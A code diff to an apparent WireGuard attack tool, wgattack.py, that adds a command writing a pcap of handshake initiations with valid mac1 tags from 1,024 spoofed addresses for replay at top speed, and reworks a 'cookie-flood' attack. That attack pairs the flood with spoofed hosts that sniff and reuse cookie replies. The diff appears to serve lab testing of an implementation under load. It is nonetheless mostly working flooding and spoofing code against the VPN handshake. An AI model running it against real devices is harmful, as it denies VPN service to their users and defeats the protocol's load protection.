@@ -39,13 +39,20 @@ heard, 0 otherwise, 2 on a usage or set-up error.
                        genuine ones with a changed counter or a flipped bit;
                        cookie replies with a live index and garbage
       replay-data      the captured data messages resent (twice each)
+  wgattack.py flood-pcap --src-mac MAC --dst-mac MAC --target ADDR --port PORT
+              --pub B64 --out FILE
+      writes the flood of cookie-flood (1) below as a pcap file, for a
+      faster sender (tcpreplay --topspeed --loop=0: under emulation this
+      process alone sends about 800 a second, which never held a device
+      under load)
   wgattack.py cookie-flood --ifname IF --src-mac MAC --dst-mac MAC --target ADDR
               --port PORT --pub B64 --holders N --seconds S [--ready FILE]
-              [--stop FILE] [--summary FILE] [--min-cookies N]
+              [--stop FILE] [--summary FILE] [--min-cookies N] [--no-flood 1]
       the handshake path under attack (IPv4), from one process, until
       --seconds pass or the file --stop appears: (1) a flood of initiations
       with a valid mac1 from 1,024 spoofed sources in 10.200.0.0/16, which
-      keeps the device under load; (2) N "cookie holders" in 10.201.0.0/16
+      keeps the device under load (not with --no-flood, when another
+      process sends it: flood-pcap); (2) N "cookie holders" in 10.201.0.0/16
       (the device must route that prefix back to IF: the holders never own
       their addresses, a sniffer on IF reads their cookie replies): each
       sends a handshake response with a valid mac1, reads the cookie the
@@ -775,6 +782,30 @@ def control(args):
 LABEL_COOKIE = b"cookie--"
 
 
+def flood_frames(mac1_key, smac, dmac, target, port):
+    """The flood: initiations with a valid mac1, from 1,024 spoofed sources."""
+    flood = []
+    for i in range(1024):
+        body = struct.pack("<I", MSG_INIT) + os.urandom(LEN_INIT - 36)
+        msg = body + mac16(mac1_key, body) + b"\0" * 16
+        flood.append(udp_frame(smac, dmac, "10.200.%d.%d" % (i // 250, i % 250 + 1), 40000 + i, target, port,
+                               msg, ident=i))
+    return flood
+
+
+def flood_pcap(args):
+    """See the module's documentation (flood-pcap)."""
+    mac1_key = blake2s(LABEL_MAC1, b64decode(args.pub))
+    smac = bytes.fromhex(args.src_mac.replace(":", ""))
+    dmac = bytes.fromhex(args.dst_mac.replace(":", ""))
+    frames = flood_frames(mac1_key, smac, dmac, args.target, int(args.port))
+    with open(args.out, "wb") as f:
+        # pcap: magic, version 2.4, zone, sigfigs, snaplen, Ethernet.
+        f.write(struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, 1))
+        for fr in frames:
+            f.write(struct.pack("<IIII", 0, 0, len(fr), len(fr)) + fr)
+
+
 def cookie_flood(args):
     """See the module's documentation (cookie-flood)."""
     pub = b64decode(args.pub)
@@ -787,13 +818,7 @@ def cookie_flood(args):
     min_cookies = int(args.min_cookies) if args.min_cookies is not None else n
     if n > 250 * 250 or min_cookies > n:
         usage("--holders at most 62500, --min-cookies at most --holders")
-    # The flood: initiations with a valid mac1, from 1,024 spoofed sources.
-    flood = []
-    for i in range(1024):
-        body = struct.pack("<I", MSG_INIT) + os.urandom(LEN_INIT - 36)
-        msg = body + mac16(mac1_key, body) + b"\0" * 16
-        flood.append(udp_frame(smac, dmac, "10.200.%d.%d" % (i // 250, i % 250 + 1), 40000 + i, target, port,
-                               msg, ident=i))
+    flood = [] if args.no_flood else flood_frames(mac1_key, smac, dmac, target, port)
     # The holders: handshake responses (sender index 0x20000000 + i, a
     # random receiver index the device never gave), with their mac1; the
     # frame with the mac2 replaces the first once the cookie is known.
@@ -859,7 +884,7 @@ def cookie_flood(args):
                     st["flood_sent"] += 1
                 except OSError:
                     pass
-            fi = (fi + 64) % len(flood)
+            fi = (fi + 64) % max(len(flood), 1)
             for i in range(start, min(start + 64, n)):
                 try:
                     send(frames[i])
@@ -951,12 +976,19 @@ def main(argv=None):
         return 0
     if cmd == "cookie-flood":
         args = Args(rest, ("ifname", "src_mac", "dst_mac", "target", "port", "pub", "holders", "seconds", "ready",
-                           "stop", "summary", "min_cookies"))
+                           "stop", "summary", "min_cookies", "no_flood"))
         for k in ("ifname", "src_mac", "dst_mac", "target", "port", "pub", "holders", "seconds"):
             if getattr(args, k) is None:
                 usage("cookie-flood needs --%s" % k.replace("_", "-"))
         args.port = int(args.port)
         return cookie_flood(args)
+    if cmd == "flood-pcap":
+        args = Args(rest, ("src_mac", "dst_mac", "target", "port", "pub", "out"))
+        for k in ("src_mac", "dst_mac", "target", "port", "pub", "out"):
+            if getattr(args, k) is None:
+                usage("flood-pcap needs --%s" % k.replace("_", "-"))
+        flood_pcap(args)
+        return 0
     if cmd not in ("attack", "control"):
         usage("unknown command %s" % cmd)
     args = Args(rest, COMMON + (("class",) if cmd == "attack" else ("static_priv",)))
